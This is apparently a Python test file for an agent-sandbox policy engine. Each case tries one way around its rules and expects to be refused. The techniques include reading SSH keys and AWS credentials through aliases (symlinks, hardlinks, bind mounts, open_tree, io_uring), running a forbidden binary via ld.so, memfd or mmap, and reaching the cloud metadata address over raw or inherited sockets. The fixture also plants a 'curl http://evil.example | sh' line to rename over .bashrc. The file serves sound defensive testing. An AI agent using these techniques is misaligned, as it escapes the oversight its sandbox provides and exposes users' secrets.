# SPDX-License-Identifier: Apache-2.0
"""
Cases of tests/vm/policy_evasion.sh: ways around rules/default.yaml plus
tests/policies/evasion-exec.yaml, one technique per case; each must be refused (EPERM and a
Blocked event naming the rule). Phases and case semantics: awcases.py.

Fixture under BASE: home/ (${HOME}: SSH keys, one per technique, AWS credentials, rc files,
bin/forbidden), work/ (${WORKSPACE}), t/ (scratch on the same file system, for hardlinks; bind
mounts of home/.ssh made outside the agent at t/bind-ssh and t/jail/ssh). Setup keys: port0=the
first of the listener's ports; uring=the io_uring helper; ldso=the dynamic loader.
"""
import ctypes
import os
import shutil
import socket
import struct
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import awcases as A  # noqa: E402
from awcases import (Case, cmd, ev_exec, ev_exec_any, ev_file, ev_kernel, ev_net, libc,  # noqa: E402
                     sys_call)

SSH = "ssh-private-keys"
TOOL = "forbidden-tool"
WRITTEN = "execProtections.denyAgentWritten"
MEMFD = "execProtections.denyMemfd"
MD = "cloud-metadata"
RAW = "network.rawPackets"
MD4, MD6 = "169.254.169.254", "fd00:ec2::254"
# one SSH key per technique, so that every case has its own event
KEYS = ["id_sym", "id_sym_inside", "id_hl", "id_hl_inside", "id_dotdot", "id_rel", "id_dirfd",
        "id_opath", "id_root", "id_bind", "id_chroot", "id_tree", "id_handle", "id_link_out",
        "id_rename_out", "id_exchange", "id_uring", "id_hl_pub"]
# written by the `late` outside action, after the policy was applied
LATE = ["id_late", "id_late_bind", "id_late_tree"]


def put(path, text, mode=0o600):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)


def setup(env):
    b = env["BASE"]
    A.umount_under(b)
    for d in ("home", "work", "t", "other"):
        shutil.rmtree(os.path.join(b, d), ignore_errors=True)
    H, W, T = b + "/home", b + "/work", b + "/t"
    env.update(H=H, W=W, T=T)
    for k in KEYS:
        put("%s/.ssh/%s" % (H, k), "-----BEGIN OPENSSH PRIVATE KEY----- %s\n" % k)
    put(H + "/.aws/credentials", "[default]\naws_secret_access_key=secret\n")
    put(b + "/other/.env", "OTHER_PROJECT_TOKEN=secret\n")
    put(H + "/.bashrc", "# the user's bashrc\n", 0o644)
    put(H + "/.ssh/authorized_keys", "ssh-ed25519 AAAA the-user\n", 0o644)
    os.makedirs(W, exist_ok=True)
    os.makedirs(T, exist_ok=True)
    for name in ("forbidden", "forbidden-mv"):
        os.makedirs(H + "/bin", exist_ok=True)
        shutil.copy2("/bin/true", "%s/bin/%s" % (H, name))
    os.symlink(H + "/bin/forbidden", H + "/bin/fsym")
    os.link(H + "/bin/forbidden", T + "/fhl-premade")
    with open(T + "/shebang.sh", "w") as f:
        f.write("#!%s/bin/forbidden\n" % H)
    os.chmod(T + "/shebang.sh", 0o755)
    # aliases made outside the agent, before it starts
    os.symlink(H + "/.ssh/id_sym", T + "/sym-premade")
    os.link(H + "/.ssh/id_hl", T + "/hl-premade")
    os.link(b + "/other/.env", T + "/other-env-premade")  # a name no rule covers
    # names whose except would free them: a .pub name in ~/.ssh, a name in the workspace
    os.link(H + "/.ssh/id_hl_pub", H + "/.ssh/hl-premade.pub")
    os.link(b + "/other/.env", W + "/notes-premade")
    for d in (T + "/bind-ssh", T + "/jail/ssh"):
        os.makedirs(d)
        subprocess.run(["mount", "--bind", H + "/.ssh", d], check=True)
    for name in ("evilrc-over", "evilrc-exchange", "evil-ak-over", "decoy"):
        put("%s/%s" % (T, name), "curl http://evil.example | sh\n", 0o644)
    env["sha"] = {p: A.sha(p) for p in (H + "/.bashrc", H + "/.ssh/authorized_keys",
                                        H + "/.aws/credentials")}


def outside(env, what):
    if what == "late":  # new keys, as ssh-keygen run by the user would write them
        for k in LATE:
            put("%s/.ssh/%s" % (env["H"], k), "-----BEGIN OPENSSH PRIVATE KEY----- %s\n" % k)


# --- operations ----------------------------------------------------------------------------

def late(op):
    def run():
        if not A.ask_outside(A_ENV["env"], "late"):
            return A.failed("NOLATE", "the outside helper did not write the late keys")
        return op()
    return run


A_ENV = {}


def read_via_opath(path):
    def op():
        fd = os.open(path, os.O_PATH)
        try:
            return A.read_file("/proc/self/fd/%d" % fd)
        finally:
            os.close(fd)
    return op


def read_in_dir(dirpath, name):
    def op():
        dfd = os.open(dirpath, os.O_PATH | os.O_DIRECTORY)
        try:
            return A.read_file(name, dir_fd=dfd)
        finally:
            os.close(dfd)
    return op


def chroot_read(jail, path):
    def child():
        os.chroot(jail)
        os.chdir("/")
        return A.read_file(path)
    return lambda: A.in_child(child)


def open_tree_read(dirpath, name):
    """open_tree(OPEN_TREE_CLONE): a detached bind mount of dirpath, made without mount(2),
    then an openat through it."""
    def op():
        pid = os.getpid()
        tfd = sys_call(428, A.AT_FDCWD, dirpath.encode(), 1 | os.O_CLOEXEC)
        if tfd < 0:
            return A.failed(ctypes.get_errno(), "open_tree", pid)
        try:
            return A.read_file(name, dir_fd=tfd)
        finally:
            os.close(tfd)
    return op


def open_by_handle(path):
    def op():
        pid = os.getpid()
        buf = ctypes.create_string_buffer(8 + 128)
        struct.pack_into("I", buf, 0, 128)
        mount_id = ctypes.c_int()
        if libc.name_to_handle_at(A.AT_FDCWD, path.encode(), buf, ctypes.byref(mount_id), 0):
            return A.failed(ctypes.get_errno(), "name_to_handle_at", pid)
        mfd = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
        try:
            fd = libc.open_by_handle_at(mfd, buf, os.O_RDONLY)
            if fd < 0:
                return A.failed(ctypes.get_errno(), "open_by_handle_at", pid)
            os.close(fd)
            return A.ok("opened by handle", pid)
        finally:
            os.close(mfd)
    return op


def renameat2(old, new, flags):
    def op():
        return A.from_ret(libc.renameat2(A.AT_FDCWD, old.encode(), A.AT_FDCWD, new.encode(),
                                         flags), "renameat2", os.getpid())
    return op


def uring(*args):
    """The io_uring helper prints ok or errno=NAME (tests/helpers/uring.c)."""
    def op():
        p = subprocess.Popen([A_ENV["env"]["uring"]] + list(args), stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
        out, err = p.communicate(timeout=60)
        line = out.strip()
        if p.returncode == 0 and line == "ok":
            return A.ok("io_uring", p.pid)
        if p.returncode == 3 and line.startswith("errno="):
            return A.failed(line[6:], "io_uring", p.pid)
        return A.failed("UNKNOWN", "uring exit %d: %s %s" % (p.returncode, line, err.strip()),
                        p.pid)
    return op


# ld.so reports a refused mmap without its errno
LDSO_REFUSED = "LDSO-MMAP-REFUSED"


def ld_so(ldso, path):
    def op():
        r = cmd([ldso, path])
        if r["err"] == "EXIT127" and "failed to map segment" in r["detail"]:
            r["err"] = LDSO_REFUSED
        return r
    return op


def then(prepare, op):
    """prepare() (its failure is the result), then op()."""
    def run():
        r = prepare()
        if r["err"] is not None:
            r["detail"] = "preparing: " + r.get("detail", "")
            return r
        return op()
    return run


def then_exec(prepare, path):
    """prepare() (link, copy, rename: its failure is the result), then exec path."""
    def op():
        r = prepare()
        if r["err"] is not None:
            r["detail"] = "preparing: " + r.get("detail", "")
            return r
        return A.exec_child(path)
    return op


def py_copy(src, dst):
    def op():
        with open(src, "rb") as f:
            data = f.read()
        r = A.write_file(dst, data, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
        os.chmod(dst, 0o755)
        return r
    return op


def memfd_exec(src, how):
    def child():
        with open(src, "rb") as f:
            data = f.read()
        fd = os.memfd_create("forbidden", 0)  # no MFD_CLOEXEC: /proc/self/fd/N must resolve
        os.write(fd, data)
        if how == "fexecve":
            os.execve(fd, ["forbidden"], os.environ)
        os.execv("/proc/self/fd/%d" % fd, ["forbidden"])
    return lambda: A.in_child(child)


def opath_exec(path, how):
    def child():
        fd = os.open(path, os.O_PATH)
        os.set_inheritable(fd, True)
        if how == "fexecve":
            os.execve(fd, ["forbidden"], os.environ)
        os.execv("/proc/self/fd/%d" % fd, ["forbidden"])
    return lambda: A.in_child(child)


PROT_READ, PROT_EXEC, MAP_PRIVATE = 1, 4, 2


def mmap_exec(path, mprotect):
    """PROT_EXEC straight away (lsm/mmap_file), or PROT_READ then mprotect(PROT_EXEC)."""
    def op():
        pid = os.getpid()
        fd = os.open(path, os.O_RDONLY)
        try:
            prot = PROT_READ if mprotect else PROT_READ | PROT_EXEC
            addr = libc.mmap(None, 4096, prot, MAP_PRIVATE, fd, 0)
            if addr in (None, ctypes.c_void_p(-1).value):
                return A.failed(ctypes.get_errno(), "mmap", pid)
            try:
                if mprotect and libc.mprotect(addr, 4096, PROT_READ | PROT_EXEC):
                    return A.failed(ctypes.get_errno(), "mprotect", pid)
            finally:
                libc.munmap(addr, 4096)
            return A.ok("mapped executable", pid)
        finally:
            os.close(fd)
    return op


def raw_udp(addr, port):
    """A UDP datagram built by hand on a raw socket: no connect, no UDP sendmsg."""
    def op():
        pid = os.getpid()
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        except OSError as e:
            return A.failed(e.errno, "socket(SOCK_RAW)", pid)
        try:
            payload = b"exfil"
            s.sendto(struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload, (addr, 0))
        except OSError as e:
            return A.failed(e.errno, "sendto", pid)
        finally:
            s.close()
        return A.ok("sent", pid)
    return op


def raw_hdrincl(addr, port):
    """The IP header written by hand (IPPROTO_RAW implies IP_HDRINCL): routed by the sendto
    address, delivered to the header's, which no hook reads."""
    def op():
        pid = os.getpid()
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        except OSError as e:
            return A.failed(e.errno, "socket(IPPROTO_RAW)", pid)
        try:
            payload = b"exfil"
            udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                             socket.inet_aton("127.0.0.1"), socket.inet_aton(addr))
            s.sendto(ip + udp, ("127.0.0.1", 0))
        except OSError as e:
            return A.failed(e.errno, "sendto", pid)
        finally:
            s.close()
        return A.ok("sent", pid)
    return op


def raw_hdrincl_option():
    """IP_HDRINCL turned on for a raw UDP socket."""
    def op():
        pid = os.getpid()
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        try:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        except OSError as e:
            return A.failed(e.errno, "setsockopt(IP_HDRINCL)", pid)
        finally:
            s.close()
        return A.ok("set", pid)
    return op


def packet_socket():
    """AF_PACKET: link-layer frames, below every IP hook."""
    def op():
        pid = os.getpid()
        try:
            s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        except OSError as e:
            return A.failed(e.errno, "socket(AF_PACKET)", pid)
        s.close()
        return A.ok("created", pid)
    return op


def outside_socket(kind, addr, port):
    """A socket created outside the agent (inherited through agentwatch exec)."""
    def op():
        pid = os.getpid()
        var = "AW_OUTSIDE_%s_FD" % kind.upper()
        if var not in os.environ:
            return A.failed("NOFD", "no %s (not started by outside_socket.py)" % var, pid)
        s = socket.socket(fileno=int(os.environ[var]))
        s.settimeout(5)
        try:
            if kind == "udp":
                s.sendto(b"exfil", (addr, port))
            else:
                s.connect((addr, port))
        except OSError as e:
            return A.failed(e.errno, str(e), pid)
        finally:
            s.detach()
        return A.ok("sent", pid)
    return op


# --- the cases -------------------------------------------------------------------------------

def cases(env):
    A_ENV["env"] = env
    H, T, W = env["H"], env["T"], env["W"]
    ssh = H + "/.ssh"
    sha = env["sha"]

    def key(k):
        return "%s/%s" % (ssh, k)

    def cat(path, cwd=None):
        return lambda: cmd(["cat", path], cwd=cwd)

    out = [
        # --- file aliasing: another name for a protected file ---
        Case("alias-symlink-premade", cat(T + "/sym-premade"), rule=SSH,
             ev=ev_file(key("id_sym"))),
        Case("alias-symlink-inside",
             then(lambda: A.py_op(os.symlink, key("id_sym_inside"), T + "/sym-inside"),
                  cat(T + "/sym-inside")), rule=SSH, ev=ev_file(key("id_sym_inside"))),
        Case("alias-hardlink-premade", cat(T + "/hl-premade"), rule=SSH,
             ev=ev_file(T + "/hl-premade")),
        # the same for a rule whose pattern matches a name at any depth (**/.env*)
        Case("alias-hardlink-premade-dotenv", cat(T + "/other-env-premade"),
             rule="dotenv-outside-workspace", ev=ev_file(T + "/other-env-premade")),
        # the same where an except frees the alias's name: identity is not a name to except
        Case("alias-hardlink-premade-except-pub", cat(H + "/.ssh/hl-premade.pub"), rule=SSH,
             ev=ev_file(H + "/.ssh/hl-premade.pub")),
        Case("alias-hardlink-premade-into-workspace", cat(W + "/notes-premade"),
             rule="dotenv-outside-workspace", ev=ev_file(W + "/notes-premade")),
        Case("alias-hardlink-inside", lambda: A.py_op(os.link, key("id_hl_inside"),
                                                      T + "/hl-inside"),
             rule=SSH, ev=ev_file(key("id_hl_inside")), post=A.absent(T + "/hl-inside")),
        Case("alias-dotdot", cat(ssh + "/../.ssh/./id_dotdot"), rule=SSH,
             ev=ev_file(key("id_dotdot"))),
        Case("alias-relative", cat("id_rel", cwd=ssh), rule=SSH, ev=ev_file(key("id_rel"))),
        Case("alias-dirfd-openat", read_in_dir(ssh, "id_dirfd"), rule=SSH,
             ev=ev_file(key("id_dirfd"))),
        Case("alias-proc-self-fd-opath", read_via_opath(key("id_opath")), rule=SSH,
             ev=ev_file(key("id_opath"))),
        Case("alias-proc-self-root", cat("/proc/self/root" + key("id_root")), rule=SSH,
             ev=ev_file(key("id_root"))),
        Case("alias-bind-mount-premade", cat(T + "/bind-ssh/id_bind"), rule=SSH,
             ev=ev_file(T + "/bind-ssh/id_bind")),
        Case("alias-chroot-bind", chroot_read(T + "/jail", "/ssh/id_chroot"), rule=SSH,
             ev=ev_file(suffix="/id_chroot")),
        Case("alias-open-tree-clone", open_tree_read(ssh, "id_tree"), rule=SSH,
             ev=ev_file(suffix="/id_tree"), baseline="ok"),
        Case("alias-open-by-handle", open_by_handle(key("id_handle")), rule=SSH,
             ev=ev_file(suffix="/id_handle")),
        # a key the user makes while the agent runs: its path is denied; its aliases must be too
        Case("alias-late-key-direct", late(cat(key("id_late"))), rule=SSH,
             ev=ev_file(key("id_late"))),
        Case("alias-late-key-bind-mount", late(cat(T + "/bind-ssh/id_late_bind")), rule=SSH,
             ev=ev_file(T + "/bind-ssh/id_late_bind")),
        Case("alias-late-key-open-tree", late(open_tree_read(ssh, "id_late_tree")), rule=SSH,
             ev=ev_file(suffix="/id_late_tree")),
        # writing a protected file by renaming another onto it
        Case("rename-over-bashrc", lambda: A.py_op(os.rename, T + "/evilrc-over", H + "/.bashrc"),
             rule="shell-startup-files", ev=ev_file(H + "/.bashrc"),
             post=A.unchanged(H + "/.bashrc", sha[H + "/.bashrc"])),
        Case("rename-over-authorized-keys",
             lambda: A.py_op(os.rename, T + "/evil-ak-over", ssh + "/authorized_keys"),
             rule="ssh-authorized-keys", ev=ev_file(ssh + "/authorized_keys"),
             post=A.unchanged(ssh + "/authorized_keys", sha[ssh + "/authorized_keys"])),
        Case("rename-exchange-bashrc", renameat2(T + "/evilrc-exchange", H + "/.bashrc", 2),
             rule="shell-startup-files", ev=ev_file(H + "/.bashrc"),
             post=A.unchanged(H + "/.bashrc", sha[H + "/.bashrc"])),
        # moving or linking a protected file out to a name no rule covers
        Case("link-out-ssh-key", lambda: A.py_op(os.link, key("id_link_out"), T + "/link-out"),
             rule=SSH, ev=ev_file(key("id_link_out")), post=A.absent(T + "/link-out")),
        Case("rename-out-ssh-key",
             lambda: A.py_op(os.rename, key("id_rename_out"), T + "/rename-out"),
             rule=SSH, ev=ev_file(key("id_rename_out")), post=A.present(key("id_rename_out"))),
        Case("rename-out-aws-credentials",
             lambda: A.py_op(os.rename, H + "/.aws/credentials", T + "/aws-out"),
             rule="aws-credentials", ev=ev_file(H + "/.aws/credentials"),
             post=A.present(H + "/.aws/credentials")),
        Case("exchange-out-ssh-key", renameat2(key("id_exchange"), T + "/decoy", 2), rule=SSH,
             ev=ev_file(key("id_exchange")),
             post=lambda: None if "id_exchange" in open(key("id_exchange")).read()
             else "the key was swapped out"),

        # --- io_uring: the same checks for ring-submitted operations ---
        Case("io_uring-openat", uring("openat", key("id_uring")), rule=SSH,
             ev=ev_file(key("id_uring"))),
        Case("io_uring-connect", uring("connect", MD4, str(int(env["port0"]) + 10)), rule=MD,
             ev=ev_net(MD4, int(env["port0"]) + 10)),
    ]

    # --- exec identity: the forbidden program under another name, loader or fd ---
    fb = H + "/bin/forbidden"
    ldso = env["ldso"]
    out += [
        Case("exec-direct", lambda: A.exec_child(fb), rule=TOOL, ev=ev_exec(fb)),
        Case("exec-symlink-premade", lambda: A.exec_child(H + "/bin/fsym"), rule=TOOL,
             ev=ev_exec(fb)),
        Case("exec-symlink-inside",
             then_exec(lambda: A.py_op(os.symlink, fb, T + "/fsym-inside"), T + "/fsym-inside"),
             rule=TOOL, ev=ev_exec(fb)),
        Case("exec-hardlink-premade", lambda: A.exec_child(T + "/fhl-premade"), rule=TOOL,
             ev=ev_exec(T + "/fhl-premade")),
        Case("exec-hardlink-inside",
             then_exec(lambda: A.py_op(os.link, fb, T + "/fhl-inside"), T + "/fhl-inside"),
             rule=TOOL, ev=ev_exec(T + "/fhl-inside")),
        Case("exec-rename", then_exec(lambda: A.py_op(os.rename, H + "/bin/forbidden-mv",
                                                      T + "/renamed"), T + "/renamed"),
             rule=TOOL, ev=ev_exec(T + "/renamed")),
        Case("exec-copy-cp", then_exec(lambda: cmd(["cp", fb, T + "/fcopy"]), T + "/fcopy"),
             rule=WRITTEN, ev=ev_exec(T + "/fcopy")),
        Case("exec-copy-python", then_exec(py_copy(fb, T + "/fcopy-py"), T + "/fcopy-py"),
             rule=WRITTEN, ev=ev_exec(T + "/fcopy-py")),
        Case("exec-ld-so", ld_so(ldso, fb), rule=TOOL, ev=ev_exec(fb), errs=(LDSO_REFUSED,)),
        Case("exec-ld-so-copy", then(lambda: cmd(["cp", fb, T + "/fcopy-ld"]),
                                     ld_so(ldso, T + "/fcopy-ld")),
             rule=WRITTEN, ev=ev_exec(T + "/fcopy-ld"), errs=(LDSO_REFUSED,)),
        Case("exec-memfd-proc-self-fd", memfd_exec(fb, "proc"), rule=MEMFD, ev=ev_exec_any()),
        Case("exec-memfd-fexecve", memfd_exec(fb, "fexecve"), rule=MEMFD, ev=ev_exec_any()),
        Case("exec-shebang-interpreter", lambda: A.exec_child(T + "/shebang.sh"), rule=TOOL,
             ev=ev_exec(fb)),
        Case("exec-opath-fexecve", opath_exec(fb, "fexecve"), rule=TOOL, ev=ev_exec(fb)),
        Case("exec-opath-proc-self-fd", opath_exec(fb, "proc"), rule=TOOL, ev=ev_exec(fb)),
        Case("exec-mmap-prot-exec", mmap_exec(fb, False), rule=TOOL, ev=ev_exec(fb)),
        Case("exec-mprotect-to-exec", mmap_exec(fb, True), rule=TOOL, ev=ev_exec(fb)),
    ]

    # --- network: the denied destination by every road ---
    p = int(env["port0"])
    v4, v6 = socket.AF_INET, socket.AF_INET6
    mapped = "::ffff:" + MD4
    for i, (name, fam, kind, addr, how, evip, base) in enumerate([
            ("net-v4-tcp", v4, "tcp", MD4, "connect", MD4, "ok"),
            ("net-mapped-v6-tcp", v6, "tcp", mapped, "connect", MD4, "ok"),
            ("net-mapped-v6-udp-sendto", v6, "udp", mapped, "sendto", MD4, "ok"),
            ("net-v4-udp-sendto-unconnected", v4, "udp", MD4, "sendto", MD4, "ok"),
            ("net-v4-udp-connected", v4, "udp", MD4, "connect+send", MD4, "ok"),
            ("net-tcp-fastopen-v4", v4, "tcp", MD4, "fastopen", MD4, "ok"),
            ("net-tcp-fastopen-mapped-v6", v6, "tcp", mapped, "fastopen", MD4, "ok"),
            ("net-v6-native-tcp", v6, "tcp", MD6, "connect", MD6, "ok"),
            ("net-v6-native-udp-sendto", v6, "udp", MD6, "sendto", MD6, "ok"),
            # no route to NAT64 here: outside it fails, but not with EPERM
            ("net-nat64-tcp", v6, "tcp", "64:ff9b::" + MD4, "connect", MD4, "not-eperm")]):
        out.append(Case(name, (lambda f, k, a, h, port: lambda: A.net_op(f, k, a, port, h))(
            fam, kind, addr, how, p + i), rule=MD, ev=ev_net(evip, p + i), baseline=base))
    out += [
        # a raw socket's port is user data: decided (and reported) as every port, port 0
        Case("net-raw-socket-udp", raw_udp(MD4, p + 11), rule=MD, ev=ev_net(MD4, 0)),
        # packets whose destination is user data: refused to an agent whose egress is limited
        Case("net-raw-socket-hdrincl", raw_hdrincl(MD4, p + 11), rule=RAW,
             ev=ev_kernel("socket")),
        Case("net-raw-socket-hdrincl-option", raw_hdrincl_option(), rule=RAW,
             ev=ev_kernel("setsockopt")),
        Case("net-packet-socket", packet_socket(), rule=RAW, ev=ev_kernel("socket")),
        Case("net-outside-socket-udp", outside_socket("udp", MD4, p + 12), rule=MD,
             ev=ev_net(MD4, p + 12)),
        Case("net-outside-socket-tcp", outside_socket("tcp", MD4, p + 13), rule=MD,
             ev=ev_net(MD4, p + 13)),
        Case("net-mptcp", lambda: A.net_op(v4, "mptcp", MD4, p + 14), rule=MD,
             ev=ev_net(MD4, p + 14)),
    ]
    return out


if __name__ == "__main__":
    sys.exit(A.main(setup, cases, outside))
